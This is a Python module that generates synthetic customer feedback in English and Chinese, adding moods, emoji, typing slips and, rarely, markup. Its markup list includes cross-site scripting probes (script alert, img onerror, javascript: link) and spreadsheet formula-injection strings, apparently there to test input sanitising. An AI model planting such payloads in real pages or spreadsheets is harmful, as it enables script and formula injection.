"""One message: an opening, a main clause, details, at times a second aspect, and slips."""

from __future__ import annotations

from dataclasses import dataclass

from insights.synthetic.grammar import Draw, Grammar, grammar

__all__ = ["Message", "compose"]

_MOODS = {-1: "negative", 0: "neutral", 1: "positive"}
_EMOJI = {
    -1: ("😡", "😞", "🙄", "👎", "😤", "💔"),
    0: ("🤔", "🙏", "❓", "🙂"),
    1: ("😀", "👍", "🎉", "❤️", "💯", "😍"),
}
_MARKUP = (
    "<b>{}</b>",
    "<p>{}</p>",
    "{}<br>",
    "<script>alert('{}')</script>",
    "{} <img src=x onerror=alert(1)>",
    '=HYPERLINK("http://example.com/?x="&A1,"{}")',
    "=1+1 {}",
    "@SUM(A1:A9) {}",
    "{} &amp; more",
    "<a href='javascript:alert(1)'>{}</a>",
)
_SECOND = ("booking", "access", "speed", "calendar", "climate", "reports", "onboarding")
_SHORT = {
    ("en", 1): ("good", "great", "ok good", "love it", "nice", "thanks"),
    ("en", 0): ("ok", "fine", "no comment", "nothing", "it is okay"),
    ("en", -1): ("bad", "not good", "disappointed", "useless", "terrible"),
    ("zh", 1): ("不错", "好用", "很好", "满意", "点赞"),
    ("zh", 0): ("一般", "还行", "没有", "凑合"),
    ("zh", -1): ("不好用", "差评", "太差了", "失望"),
}


@dataclass(frozen=True)
class Message:
    """A text and what is in it."""

    text: str
    second_topic: str | None = None
    second_polarity: int | None = None
    typo: bool = False
    markup: bool = False
    short: bool = False


def compose(draw: Draw, *, language: str, topic: str, polarity: int, channel: str) -> Message:
    """Draw a message on this topic in this mood.

    A few are short cries without a topic (only for praise and in reviews and surveys).
    """
    mood = _MOODS[polarity]
    if topic == "praise" and channel != "ticket" and draw.chance(0.12):
        return Message(draw.pick(_SHORT[language, polarity]), short=True)
    words = grammar(language)
    parts = [_sentence(words.say(draw, topic, mood), language)]
    second = None
    if draw.chance(0.16) and topic != "leaving":
        second, flip = _second(draw, topic, polarity)
        parts = [_joined(draw, words, parts[0], second, flip, language)]
    subject = topic if topic == "leaving" else "any"
    for role, share in (("detail", 0.6), ("detail", 0.2), ("ask", 0.3)):
        if draw.chance(share):
            parts.append(
                _sentence(words.say(draw, subject, f"{role}_{mood}", about=topic), language)
            )
    parts = list(dict.fromkeys(parts))
    if channel in ("ticket", "chat") and draw.chance(0.45):
        opening = words.say(draw, "any", "open")
        if language == "en":
            parts[0] = _lowered(parts[0])
        parts.insert(0, opening)
    if channel == "ticket" and draw.chance(0.3):
        parts.append(_sentence(words.say(draw, "any", "close"), language))
    text = ("" if language == "zh" else " ").join(parts)
    typo = draw.chance(0.12)
    if typo:
        text = _slip(draw, text, language)
    if draw.chance(0.09):
        text = f"{text}{' ' if language == 'en' else ''}{draw.pick(_EMOJI[polarity])}"
    markup = draw.chance(0.01)
    if markup:
        text = draw.pick(_MARKUP).format(text)
    if not second:
        return Message(text, typo=typo, markup=markup)
    return Message(text, second, flip, typo, markup)


def _second(draw: Draw, topic: str, polarity: int) -> tuple[str, int]:
    """Draw another aspect in the opposite mood; after a neutral message any mood."""
    other = draw.pick([name for name in _SECOND if name != topic])
    return other, -polarity if polarity else draw.pick((-1, 1))


def _joined(
    draw: Draw, words: Grammar, first: str, second: str, polarity: int, language: str
) -> str:
    clause = words.say(draw, second, _MOODS[polarity])
    link = words.fill(draw, draw.pick(words.clauses["any", "but"]))
    if language == "zh":
        first = first if first.endswith("？") else first.rstrip("。！") + "，"
        return _sentence(f"{first}{link}{clause}", language)
    if first.endswith("?"):
        return f"{first} {_sentence(f'{link} {_lowered(clause)}', language)}"
    return _sentence(f"{first.rstrip('.!')}, {link} {_lowered(clause)}", language)


def _lowered(clause: str) -> str:
    """Begin in lower case, except for I and abbreviations."""
    return clause[:1].lower() + clause[1:] if clause[1:2].islower() else clause


def _sentence(clause: str, language: str) -> str:
    clause = clause[:1].upper() + clause[1:]
    if clause[-1] in "?？!！.。,，":
        return clause
    return clause + ("。" if language == "zh" else ".")


def _slip(draw: Draw, text: str, language: str) -> str:
    """Make a typing slip: English letters swapped, doubled or dropped; Chinese lookalikes."""
    if language == "zh":
        for right, wrong in _HOMOPHONES:
            if right in text:
                return text.replace(right, wrong, 1)
        return text.rstrip("。")
    places = [i for i in range(1, len(text) - 2) if text[i : i + 2].isalpha()]
    if not places:
        return text.lower()
    place, way = draw.pick(places), draw.below(4)
    if way == 0:
        return text[:place] + text[place + 1] + text[place] + text[place + 2 :]
    if way == 1:
        return text[:place] + text[place + 1 :]
    if way == 2:
        return text[:place] + text[place] + text[place:]
    return text.lower()


_HOMOPHONES = (
    ("会议室", "会意室"),
    ("账单", "帐单"),
    ("登录", "登陆"),
    ("门禁", "门进"),
    ("同步", "同部"),
    ("闪退", "闪腿"),
    ("客服", "客付"),
    ("的", "得"),
    ("预订", "预定"),
)
